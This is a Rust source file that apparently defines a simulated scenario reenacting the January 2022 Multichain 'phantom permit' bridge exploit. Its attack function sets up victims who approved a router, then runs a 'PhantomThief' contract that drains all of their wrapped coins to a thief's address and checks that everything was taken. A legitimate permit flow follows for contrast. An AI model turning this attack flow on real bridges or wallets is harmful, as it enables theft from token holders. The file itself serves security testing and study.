//! A permit that is none: a wrapped coin takes the call for a deposit. Multichain (January 2022).

use alloy_primitives::keccak256;
use anyhow::{Result, ensure};
use facts::{Address, B256, U256};

use crate::{
    Scenario, Stage, args, encode, ether,
    scenarios::props::{allow, give, held, one, parts, permit_token, strike_in_parts, units},
};

pub(super) const PHANTOM_PERMIT: Scenario = Scenario {
    id: "wallet/approval-drain/phantom-permit",
    about: "a bridge's router believes that a permit which did not fail was one, and asks whoever is named as a token for the \
            token; those who approved it for their wrapped coins lose them (Multichain, January 2022)",
    attack,
    twin,
};

const HOLDERS: [(&str, u64); 6] =
    [("agnes", 310), ("boris", 44), ("celia", 1_120), ("dirk", 75), ("elsa", 12), ("fred", 260)];
const PERMITTED: &str =
    "anySwapOutUnderlyingWithPermit(address,address,address,uint256,uint256,uint8,bytes32,bytes32,uint256)";

struct Bridge {
    network: Address,
    coin: Address,
    router: Address,
    holders: Vec<Address>,
}

/// A bridge whose router people have approved for ever, and used now and then.
fn bridge(stage: &mut Stage<'_>) -> Result<Bridge> {
    let (network, maker) = (stage.actor("network"), stage.actor("makers of the coin"));
    let coin = stage.deploy(maker, "AnyCoin", args![])?;
    let router = stage.deploy(network, "AnyRouter", args![])?;
    let any = stage.deploy(network, "AnyToken", args![coin, router])?;
    stage.protect(router, "router");
    stage.protect(any, "anyAVAX");
    stage.pass(1)?;
    let mut holders = Vec::new();
    for (name, coins) in HOLDERS {
        let holder = stage.actor(name);
        let coins = stage.amount(ether(coins));
        stage.pay(holder, coin, coins, "deposit()", args![]);
        allow(stage, holder, coin, router);
        let ask = "anySwapOutUnderlying(address,address,uint256,uint256)";
        stage.call(holder, router, ask, args![any, holder, coins / U256::from(10), 56u64]);
        holders.push(holder);
        stage.pass(1)?;
    }
    for (n, holder) in holders.iter().take(2).enumerate() {
        let ask = "anySwapInUnderlying(bytes32,address,address,uint256,uint256)";
        let back = stage.amount(ether(3));
        stage.call(network, router, ask, args![keccak256([u8::try_from(n)?]), any, *holder, back, 56u64]);
        stage.pass(1)?;
    }
    Ok(Bridge { network, coin, router, holders })
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let Bridge { coin, router, holders, .. } = bridge(stage)?;
    let thief = stage.actor("thief");
    let payee = stage.payee(thief);
    let mut before = U256::ZERO;
    stage.mine()?;
    for holder in &holders {
        before += held(stage, coin, *holder)?;
    }
    strike_in_parts(stage, thief, "PhantomThief", holders, |_, victims| {
        ("run(address,address,address[],address)", args![router, coin, victims, payee])
    })?;
    let loot = held(stage, coin, payee)?;
    ensure!(loot == before, "{loot} of {before} were taken");
    Ok(())
}

/// People without coins bring all their dollars over: they sign permits, and the bridge's relayer pays for it.
fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let Bridge { network, router, .. } = bridge(stage)?;
    let (issuer, relayer) = (stage.actor("issuer"), stage.actor("relayer"));
    let dollar = permit_token(stage, issuer, "USDC", 6)?;
    let any = stage.deploy(network, "AnyToken", args![dollar, router])?;
    stage.protect(any, "anyUSDC");
    let mut holders = Vec::new();
    for (name, whole) in [("gus", 41_000), ("hilda", 9_300), ("ines", 780_000), ("jens", 1_250), ("kai", 66_000)] {
        let holder = stage.stranger(name);
        give(stage, issuer, dollar, holder, stage.amount(units(whole, 6)));
        holders.push((name, holder));
    }
    stage.pass(1)?;
    let domain = B256::from(one(stage, dollar, "DOMAIN_SEPARATOR()", args![])?);
    let kind = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    let deadline = stage.next_time() + 86_400;
    for part in parts(stage, holders.clone()) {
        for (name, holder) in part {
            let all = held(stage, dollar, holder)?;
            let said = keccak256(encode(args![kind, holder, router, all, U256::ZERO, deadline]));
            let digest = keccak256([&[0x19, 0x01], domain.as_slice(), said.as_slice()].concat());
            let (v, r, s) = stage.sign(name, digest)?;
            stage.call(relayer, router, PERMITTED, args![holder, any, holder, all, deadline, v, r, s, 56u64]);
            stage.mine()?;
        }
        stage.between_parts()?;
    }
    for (name, holder) in holders {
        ensure!(held(stage, dollar, holder)?.is_zero(), "{name} still has dollars here");
    }
    Ok(())
}
